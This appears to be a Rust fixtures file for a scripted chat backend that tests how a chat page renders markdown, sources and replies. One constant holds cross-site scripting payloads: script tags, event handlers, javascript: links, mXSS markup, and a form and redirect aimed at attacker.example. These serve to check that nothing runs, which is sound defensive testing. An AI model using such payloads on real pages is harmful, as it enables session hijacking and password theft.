//! The texts of the scripted flow.

use serde_json::{Value, json};

/// A long answer with everything that a chat page has to render.
pub(crate) const MARKDOWN: &str = r#"# A small tour of owls

Owls are **nocturnal** birds of prey. They hunt by *hearing* as much as by sight, and their flight is
nearly ~~noisy~~ silent.

## What makes them special

1. Asymmetric ears: one is higher than the other.
2. Fringed feathers that break up the air.
3. A neck that turns about 270°:
   - fourteen vertebrae, twice as many as ours,
   - blood vessels that keep flowing while it turns.

> “The owl of Minerva spreads its wings only with the falling of the dusk.”
> — Hegel

### A few of them

| Species | Wingspan | Hunts at night | Call |
|:--|--:|:-:|---|
| Barn owl | 90 cm | yes | a shriek |
| Snowy owl | 150 cm | sometimes | `hoo, hoo` |
| Little owl | 56 cm | at dusk | *kiew* |
| 雪鴞 (snowy owl in Chinese) | 150 cm | 有時 | 🦉 |

## Counting them

In JavaScript:

```js
const owls = [{ name: 'Barn owl', cm: 90 }, { name: 'Snowy owl', cm: 150 }]
const widest = owls.reduce((a, b) => (a.cm > b.cm ? a : b))
console.log(`${widest.name}: ${widest.cm} cm`) // "Snowy owl: 150 cm"
```

and the same in Rust:

```rust
fn widest<'a>(owls: &'a [(&'a str, u32)]) -> Option<&'a str> {
    owls.iter().max_by_key(|(_, cm)| *cm).map(|(name, _)| *name)
}
```

Inline code such as `a < b && c > d` stays as it is, and so does math-like text: 2 * 3 * 4 = 24.

- [x] read about owls
- [ ] hear one
- [ ] see one, see [the barn owl](https://en.wikipedia.org/wiki/Barn_owl) for where to look

---

Sleep well. 🌙
"#;

/// Content with which a hostile model or a poisoned document tries to make a page run, load or follow something.
pub(crate) const HOSTILE: &str = r#"Nothing of this may run: <script>window.__owned = 'script'</script>
<img src="x" onerror="window.__owned = 'onerror'"> <svg onload="window.__owned = 'svg'"></svg>
<iframe srcdoc="<script>parent.__owned = 'iframe'</script>"></iframe>
<a href="javascript:window.__owned='href'">a link</a>
<details open ontoggle="window.__owned='details'"><summary>more</summary></details>
<form action="https://attacker.example/"><input name="password" autofocus onfocus="window.__owned='focus'"></form>
<style>body { display: none }</style><base href="https://attacker.example/"><meta http-equiv="refresh" content="0;url=https://attacker.example/">

[click me](javascript:window.__owned='markdown') [data](data:text/html,<script>window.__owned='data'</script>)
[spaced]( JaVaScRiPt:window.__owned='case') ![tracker](https://attacker.example/pixel.png "onload=alert(1)")
[vb](vbscript:msgbox(1)) <math><mtext></form><form><mglyph><style></math><img src onerror="window.__owned='mxss'">

`<script>window.__owned = 'code'</script>` and

```html
<img src=x onerror="window.__owned = 'fence'">
```

The end."#;

/// The scripted model's reasoning.
pub(crate) const THOUGHTS: &str = "The question is short, so the answer should be too. \
    First I look for words that I know; then I say what I found. That should do.";

/// Two documents, as a retriever returns them.
pub(crate) fn sources() -> Value {
    json!([
        {
            "pageContent": "Owls hunt at night. Their wings are almost silent, and their ears find a mouse under the snow.",
            "metadata": { "source": "https://birds.example/owls", "title": "Owls", "loc": { "lines": { "from": 1, "to": 4 } } }
        },
        {
            "pageContent": "Bats are not birds.\nThey hunt by echo. “Naïve” text, 你好, <b>not bold</b> & 🦇.",
            "metadata": { "source": "notes/bats.txt", "title": "Bats", "pdf": { "totalPages": 12 }, "loc": { "pageNumber": 3 } }
        }
    ])
}

/// Suggested follow-up questions.
pub(crate) const FOLLOW_UPS: [&str; 3] = [
    "Show me some markdown",
    "calculate 6*7, with sources",
    "Which owl is the largest?",
];

/// The answer to a question without a known word.
pub(crate) fn friendly(question: &str, files: &[&str]) -> String {
    if !files.is_empty() {
        return format!(
            "Thank you for {}. I shall not read it, being scripted.",
            files.join(", ")
        );
    }
    if question.trim().is_empty() {
        return "Hello! Ask me something, and I shall stream an answer, word by word.".to_owned();
    }
    format!(
        "You asked: “{question}” That is a good question. I am a scripted answer, so I know little; \
         but I arrive token by token, as a model's words would. Say “markdown”, “sources”, \
         “calculate 6*7” or “think”, and I shall have more to show. 🙂"
    )
}
